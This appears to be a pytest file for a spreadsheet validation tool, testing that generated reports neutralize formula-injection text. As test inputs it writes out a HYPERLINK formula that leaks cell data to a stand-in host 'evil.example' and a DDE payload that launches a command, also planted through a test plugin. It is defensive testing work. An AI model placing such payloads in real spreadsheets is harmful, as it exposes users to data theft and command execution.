"""No cell xlsheets writes holds live formula text (issue 15, item 7), as the audit found it: the
report's Findings sheet (Message, Codes), the Summary's payer column and every other sheet kept
raw text such as =HYPERLINK(...) and +CMD|' /C CALC'!A0, which turns live the moment the sheet is
saved as CSV or the cell is edited. Every sheet of the report is read back with openpyxl and
every text cell must already be neutral (neutralize leaves it as it is)."""
from __future__ import annotations

import os
import subprocess
import sys
import textwrap
from pathlib import Path

import openpyxl

from xlsheets.cell_text import EXCEL_CELL_CHARS, neutralize

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A2,"Click for details")'
DDE = "+CMD|' /C CALC'!A0"
PLUGIN = '''
import xlsheets


@xlsheets.rule("EVIL101", severity="warning")
def formula_in_message(claim, ctx):
    """Puts formula text in a finding's message, codes and suggestion."""
    yield ctx.finding('=HYPERLINK("http://evil.example","x")', codes=["=1+1", "@SUM(A1)"],
                      suggestion="-2+3+cmd|' /C calc'!A0")


@xlsheets.hookimpl
def xlsheets_rules():
    return [formula_in_message]
'''


def run_report(tmp_path: Path, rows: list[list[str]]) -> Path:
    plugs = tmp_path / "plugs"
    plugs.mkdir()
    (plugs / "evil.py").write_text(textwrap.dedent(PLUGIN))
    (tmp_path / "xlsheets.toml").write_text('plugin_dirs = ["plugs"]\nplugins = ["evil"]\n'
                                            f'[payers.evil]\nmatch = ["{DDE}"]\n')
    book = openpyxl.Workbook()
    ws = book.active
    ws.title = "Claims"
    ws.append(["Claim ID", "DOS", "Payer", "Dx1", "CPT1", "Notes"])
    for r in rows:
        ws.append(r)
        for cell in ws[ws.max_row]:  # openpyxl would store "=..." as a formula: text, as typed
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                cell.data_type = "s"
    book.save(tmp_path / "claims.xlsx")
    done = subprocess.run([sys.executable, "-m", "xlsheets.cli", "validate", "claims.xlsx", "-o", "report.xlsx"],
                          capture_output=True, text=True, timeout=120, cwd=tmp_path,
                          env={**os.environ, "XLSHEETS_NO_ENTRY_POINTS": "1"})
    assert done.returncode in (0, 1), done.stderr
    return tmp_path / "report.xlsx"


def test_no_report_cell_holds_live_formula_text(tmp_path):
    report = run_report(tmp_path, [[HYPERLINK, "2026-03-10", DDE, "M54.17", "64483-RT", "@SUM(A1:A9)"],
                                   ["C2", "2026-03-10", DDE, "M54.17", "64483-RT", "\t=1+1"]])
    wb = openpyxl.load_workbook(report)
    seen = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert neutralize(cell.value) == cell.value, (ws.title, cell.coordinate, cell.value)
                    seen.update(t for t in (HYPERLINK, DDE, "=1+1", '=HYPERLINK("http://evil.example","x")')
                                if t in cell.value and ws.title in ("Findings", "Summary", "Claims"))
                    if cell.value.startswith("'") and ws.title in ("Findings", "Summary", "Claims"):
                        seen.add((ws.title, cell.value[1:2]))
    # the attacks were there, neutralised, on the sheets the audit named
    assert {("Findings", "="), ("Summary", "+"), ("Claims", "=")} <= seen, seen
    assert HYPERLINK in seen and DDE in seen


def test_a_full_cell_that_gets_the_apostrophe_says_it_was_shortened(tmp_path):
    note = "=" + "x" * (EXCEL_CELL_CHARS - 2) + "Z"  # a full cell, formula-like, ending in Z
    report = run_report(tmp_path, [["C1", "2026-03-10", "Acme", "M54.17", "64483-RT", note]])
    ws = openpyxl.load_workbook(report)["Claims"]
    [written] = [c.value for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.startswith("'=xxx")]
    assert len(written) <= EXCEL_CELL_CHARS
    assert written.endswith("characters do not fit in a cell]") and "32,768" in written
